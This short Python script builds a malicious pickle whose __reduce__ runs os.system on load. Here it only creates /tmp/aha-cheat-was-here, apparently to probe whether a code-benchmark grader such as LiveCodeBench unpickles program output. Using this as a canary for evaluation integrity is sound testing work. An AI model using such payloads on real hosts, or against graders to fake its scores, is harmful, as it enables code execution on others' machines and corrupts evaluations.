"""Print a pickle that leaves a file behind when loaded.

Why: shows at once whether anything on the host unpickles program output.
Seen: LiveCodeBench stores its tests as pickles; vLLM CVE-2025-32444
"""

import base64
import pickle
import sys


class Bait:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/aha-cheat-was-here')",)


data = pickle.dumps(Bait())
sys.stdout.buffer.write(data + b"\n" + base64.b64encode(data) + b"\n")
